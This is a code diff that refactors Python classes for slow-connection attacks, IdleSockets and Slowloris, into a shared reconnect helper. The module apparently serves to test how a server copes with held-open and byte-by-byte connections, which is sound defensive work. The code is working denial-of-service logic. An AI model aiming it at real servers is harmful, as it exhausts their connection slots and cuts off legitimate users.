@@ -52,6 +52,21 @@ class Attack:
     def _run(self):
         raise NotImplementedError
 
+    def _live(self, socks, i):
+        """socks[i], opened again if the server closed it (counted); None when it cannot be opened now.
+        -> (socket or None, True when it is a new connection)."""
+        s = socks[i]
+        if s is not None and _closed_by_peer(s):
+            s.close()
+            self.closed_by_server += 1
+            s = None
+        if s is not None or self._stop.is_set():
+            socks[i] = s
+            return s, False
+        socks[i] = s = _open(self.port)
+        self.connects += 1
+        return s, True
+
 
 class IdleSockets(Attack):
     """n sockets that connect and send nothing; a socket the server closes is opened again after 50 ms."""
@@ -63,14 +78,7 @@ class IdleSockets(Attack):
         try:
             while not self._stop.is_set():
                 for i in range(self.n):
-                    s = socks[i]
-                    if s is not None and _closed_by_peer(s):
-                        s.close()
-                        self.closed_by_server += 1
-                        socks[i] = s = None
-                    if s is None and not self._stop.is_set():
-                        socks[i] = _open(self.port)
-                        self.connects += 1
+                    self._live(socks, i)
                 self._stop.wait(0.05)
         finally:
             for s in socks:
@@ -96,17 +104,11 @@ class Slowloris(Attack):
         try:
             while not self._stop.is_set():
                 for i in range(self.n):
-                    s = socks[i]
-                    if s is not None and _closed_by_peer(s):
-                        s.close()
-                        self.closed_by_server += 1
-                        socks[i] = s = None
-                    if s is None:
-                        socks[i] = s = _open(self.port)
+                    s, new = self._live(socks, i)
+                    if new:
                         pos[i] = 0
-                        self.connects += 1
-                        if s is None:
-                            continue
+                    if s is None:
+                        continue
                     try:
                         s.send(self.FRAME[pos[i] % len(self.FRAME):pos[i] % len(self.FRAME) + 1])
                         pos[i] += 1
